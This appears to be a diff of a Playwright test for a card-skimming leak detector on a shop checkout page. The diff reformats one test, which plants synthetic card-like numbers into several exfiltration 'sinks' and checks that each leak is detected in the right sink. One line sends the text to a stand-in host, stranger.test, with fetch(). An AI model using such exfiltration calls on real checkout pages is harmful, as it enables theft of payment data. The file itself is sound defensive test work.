@@ -95,35 +95,34 @@ const leaks: Readonly<Record<Sink, (text: string) => unknown>> = {
   'CSP reports': (text) => fetch(`http://stranger.test/${encodeURIComponent(text)}`).catch(() => {}),
 };
 
-test('K25 seventeen-sinks: a leak into one sink is found in that sink only', async ({
-  shop,
-  cardFields,
-  page,
-  site,
-}) => {
-  const watch = await watchSinks(page, site);
-  await shop.orderAtOnce();
-  await cardFields.open();
-  const planted = Object.entries(leaks).map(([sink, leak]) => ({ sink, leak, number: digitsOf(sink) }));
-  const before = await watch.read();
-  const findNumbers = createFinder(
-    planted.map(({ number }) => ({ number: number.slice(0, 16), code: '' })),
-    before,
-  );
-  const findCodes = createFinder(
-    planted.map(({ number }) => ({ number: '', code: number.slice(16) })),
-    before,
-  );
-  expect([findNumbers(before), findCodes(before)]).toEqual([{}, {}]);
-  for (const { leak, number } of planted)
-    await page.evaluate(leak, `part ${number.slice(4, 8)} ${number.slice(8, 10)}, code ${number.slice(16)}`);
-  const findAll = async () => {
-    const texts = await watch.read();
-    return [findNumbers(texts), findCodes(texts)];
-  };
-  const each = Object.fromEntries(planted.map(({ sink }, place) => [sink, [place]]));
-  await expect.poll(findAll).toEqual([each, each]);
-});
+test(
+  'K25 seventeen-sinks: a leak into one sink is found in that sink only',
+  { tag: '@long' },
+  async ({ shop, cardFields, page, site }) => {
+    const watch = await watchSinks(page, site);
+    await shop.orderAtOnce();
+    await cardFields.open();
+    const planted = Object.entries(leaks).map(([sink, leak]) => ({ sink, leak, number: digitsOf(sink) }));
+    const before = await watch.read();
+    const findNumbers = createFinder(
+      planted.map(({ number }) => ({ number: number.slice(0, 16), code: '' })),
+      before,
+    );
+    const findCodes = createFinder(
+      planted.map(({ number }) => ({ number: '', code: number.slice(16) })),
+      before,
+    );
+    expect([findNumbers(before), findCodes(before)]).toEqual([{}, {}]);
+    for (const { leak, number } of planted)
+      await page.evaluate(leak, `part ${number.slice(4, 8)} ${number.slice(8, 10)}, code ${number.slice(16)}`);
+    const findAll = async () => {
+      const texts = await watch.read();
+      return [findNumbers(texts), findCodes(texts)];
+    };
+    const each = Object.fromEntries(planted.map(({ sink }, place) => [sink, [place]]));
+    await expect.poll(findAll).toEqual([each, each]);
+  },
+);
 
 /** Returns twenty digits that are very unlikely to occur in a page by chance. */
 const digitsOf = (seed: string): string =>
